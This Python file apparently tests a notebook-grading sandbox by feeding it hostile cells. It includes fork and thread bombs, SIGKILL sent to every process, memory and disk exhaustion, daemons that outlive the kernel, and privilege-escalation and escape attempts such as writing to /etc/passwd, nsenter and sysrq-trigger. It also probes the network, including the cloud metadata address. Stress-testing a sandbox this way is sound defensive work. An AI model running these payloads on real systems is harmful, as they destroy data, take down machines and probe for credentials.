"""Cells that end or hang the kernel, fill memory, disk or the line, or leave something behind."""

from . import PORT, Book, attack

ENDED = r"(?i)ended|died|killed|stopped|gone|crash|closed"
LATE = r"(?i)second|time|long|stopped|late"
MEMORY = r"(?i)memory|" + ENDED[4:]
OUTPUT = r"(?i)output|print|large|" + ENDED[4:]


def cell(says: str = "", earns: dict[str, float] | None = None):
    """Enter a function that returns the source of one cell, which is put before exercise 5."""

    def enter(write):
        def build(book: Book) -> None:
            book.add(write())

        build.__doc__ = write.__doc__
        attack(earns, says, name=write.__name__)(build)
        return write

    return enter


@cell(LATE)
def infinite_loop() -> str:
    """A loop that an interrupt ends."""
    return "while True:\n    pass"


@cell(LATE)
def loop_that_catches_interrupts() -> str:
    """A loop that swallows every exception."""
    return """
        import time

        while True:
            try:
                while True:
                    time.sleep(0.1)
            except BaseException:
                pass
        """


@cell(LATE)
def spin_without_release() -> str:
    """C code that holds the interpreter for hours."""
    return "import re\nre.match('(a+)+$', 'a' * 60 + 'b')"


@cell(LATE)
def spin_in_threads() -> str:
    """Matrix products on every core, in threads that no interrupt reaches."""
    return """
        import threading

        def burn():
            a = torch.randn(1_000, 1_000)
            while True:
                a = (a @ a).tanh()

        threads = [threading.Thread(target=burn) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        """


@cell(ENDED)
def leaves_by_os_exit() -> str:
    """os._exit, with the code of success."""
    return "import os\nos._exit(0)"


@cell(ENDED)
def segfault() -> str:
    """Reads address zero."""
    return "import ctypes\nctypes.string_at(0)"


@cell(ENDED)
def aborts() -> str:
    """abort(), after turning the fault handler on."""
    return "import faulthandler, os\nfaulthandler.enable()\nos.abort()"


@cell(ENDED)
def kills_itself() -> str:
    """SIGKILL to itself."""
    return "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"


@cell(LATE)
def stops_itself() -> str:
    """SIGSTOP: the process is there and does not answer."""
    return "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"


@cell()
def kills_its_parent() -> str:
    """Signals to the parent, to the process group and to everything."""
    return """
        import os, signal

        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            for process in (os.getppid(), 1, -os.getpgid(0), -os.getpgid(os.getppid()), -1):
                if process not in (0, os.getpid(), -os.getpid()):
                    try:
                        os.kill(process, number)
                    except OSError:
                        pass
        """


@cell()
def kills_every_number() -> str:
    """SIGKILL to every process number there is."""
    return """
        import os

        for process in range(2, 70_000):
            if process != os.getpid():
                try:
                    os.kill(process, 9)
                except OSError:
                    pass
        """


@cell()
def fork_bomb() -> str:
    """Processes that start processes."""
    return """
        import os

        def bomb():
            while True:
                try:
                    os.fork()
                except OSError:
                    pass

        if os.fork() == 0:
            bomb()
        """


@cell()
def thread_bomb() -> str:
    """Threads until there are no more."""
    return """
        import threading, time

        for _ in range(100_000):
            threading.Thread(target=time.sleep, args=(10**5,), daemon=True).start()
        """


@cell()
def forks_and_goes_on() -> str:
    """The kernel itself forks: both sides go on in the same cell."""
    return "import os\nos.fork(), os.fork()"


@cell()
def hundred_gigabytes() -> str:
    """One allocation of 100 GB."""
    return "memory = bytearray(100 << 30)"


@cell(MEMORY)
def memory_bit_by_bit() -> str:
    """Memory in small pieces until there is none."""
    return """
        memory = []
        while True:
            try:
                memory.append(torch.ones(4_000_000))
            except (MemoryError, RuntimeError):
                pass
        """


@cell(MEMORY)
def memory_in_children() -> str:
    """Ten children that each take less than a limit for one process."""
    return """
        import os, time

        for _ in range(10):
            if os.fork() == 0:
                memory = bytearray(b"x") * (1 << 30)
                time.sleep(600)
                os._exit(0)
        time.sleep(30)
        """


@cell()
def memory_in_files() -> str:
    """Memory that belongs to no process: memfd, shared memory and anonymous maps."""
    return """
        import mmap, os

        held = []
        for i in range(100):
            try:
                held.append(os.memfd_create(f"hold{i}"))
                for _ in range(64):
                    os.write(held[-1], bytes(16 << 20))
            except OSError:
                break
        for i in range(100):
            try:
                with open(f"/dev/shm/PWNED-{i}", "wb") as file:
                    for _ in range(64):
                        file.write(bytes(16 << 20))
            except OSError:
                break
        """


@cell(OUTPUT)
def one_line_of_gigabytes() -> str:
    """Gigabytes of output with no line break."""
    return "while True:\n    print('x' * 50_000_000, end='')"


@cell(OUTPUT)
def many_lines() -> str:
    """Lines for ever."""
    return "while True:\n    print('line')"


@cell()
def one_large_display() -> str:
    """One display of 300 MB."""
    return "from IPython.display import HTML, display\ndisplay(HTML('x' * 300_000_000))"


@cell()
def one_large_result() -> str:
    """A value whose representation is 300 MB, and a result of a hundred thousand lines."""
    return "'x' * 300_000_000"


@cell()
def output_past_python() -> str:
    """Output by a child and by the file descriptors, of which the kernel knows nothing."""
    return """
        import os, subprocess

        subprocess.Popen("yes PWNED-yes", shell=True)
        for _ in range(200):
            os.write(1, b"x" * 1_000_000)
            os.write(2, b"y" * 1_000_000)
        """


@cell()
def fills_the_disk() -> str:
    """Files everywhere until nothing fits."""
    return """
        import os

        for place in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run"):
            try:
                for i in range(100):
                    with open(f"{place}/PWNED-{i}", "wb") as file:
                        for _ in range(40):
                            file.write(bytes(10 << 20))
            except OSError:
                pass
        """


@cell()
def many_small_files() -> str:
    """Half a million empty files, and folders three thousand deep."""
    return """
        import os

        try:
            for i in range(500_000):
                open(f"PWNED-{i}", "w").close()
        except OSError:
            pass
        try:
            for i in range(3_000):
                os.mkdir("deep")
                os.chdir("deep")
        except OSError:
            pass
        """


@cell()
def sparse_file() -> str:
    """A file of a terabyte that holds nothing, mapped into memory."""
    return """
        import mmap

        with open("sparse", "wb") as file:
            file.truncate(1 << 40)
        with open("sparse", "r+b") as file:
            hole = mmap.mmap(file.fileno(), 0)
            for at in range(0, 1 << 40, 4096):
                hole[at] = 1
        """


@cell()
def closes_everything() -> str:
    """Closes every file descriptor, the kernel's own line included."""
    return "import os\nos.closerange(0, 1_000)"


@cell()
def opens_everything() -> str:
    """Opens files until no descriptor is left."""
    return """
        held = []
        try:
            while True:
                held.append(open("/dev/null"))
        except OSError:
            pass
        """


@cell()
def endless_recursion() -> str:
    """Recursion beyond the stack of C, with the limit lifted."""
    return """
        import sys, threading

        sys.setrecursionlimit(10**9)
        deep = []
        for _ in range(10**6):
            deep = [deep]
        repr(deep)
        """


@cell()
def stays_behind() -> str:
    """Daemons that leave their session and outlive the kernel."""
    return """
        import os, subprocess

        subprocess.Popen(["setsid", "nohup", "sleep", "98765"], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 1_000)
                os.execvp("sleep", ["sleep", "98766"])
            os._exit(0)
        """


@cell()
def lifts_limits() -> str:
    """Raises its own limits, priorities and namespaces, then reads and writes where it may."""
    return """
        import ctypes, os, resource, subprocess

        for name in dir(resource):
            if name.startswith("RLIMIT_"):
                try:
                    resource.setrlimit(getattr(resource, name), (-1, -1))
                except (OSError, ValueError):
                    pass
        try:
            os.setuid(0)
        except OSError:
            pass
        libc = ctypes.CDLL(None)
        libc.prctl(1, 0), libc.ptrace(16, 1, 0, 0), libc.personality(0x0040000)
        libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0), libc.umount2(b"/tmp", 2)
        for command in ("unshare -Urm mount -t proc p /proc", "sudo -n id", "su -c id", "chroot / id",
                        "mount -o remount,rw /", "nsenter -t 1 -a id", "echo 1 > /proc/sysrq-trigger",
                        "echo PWNED > /etc/passwd", "kill -9 -1"):
            subprocess.run(command, shell=True, capture_output=True, timeout=5)
        """


@cell()
def calls_home() -> str:
    """Connects to the machine, to the network and to sockets that have no file."""
    return f"""
        import socket, urllib.request

        reached = []
        for address in (("127.0.0.1", {PORT}), ("1.1.1.1", 53), ("169.254.169.254", 80), ("::1", {PORT})):
            try:
                socket.create_connection(address, timeout=1).sendall(b"PWNED")
                reached.append(address)
            except OSError:
                pass
        try:
            line = socket.socket(socket.AF_UNIX)
            line.connect("\\0gmlib-attack")
            line.sendall(b"PWNED")
            reached.append("abstract")
        except OSError:
            pass
        try:
            urllib.request.urlopen("http://example.org", timeout=1)
            reached.append("web")
        except OSError:
            pass
        assert not reached, "REACHED " + str(reached)
        """


@attack(says=ENDED, name="dies_again_and_again")
def dies_again_and_again(book: Book) -> None:
    """Ten cells that each end the kernel."""
    for code in range(10):
        book.add(f"import os\nos._exit({code})")
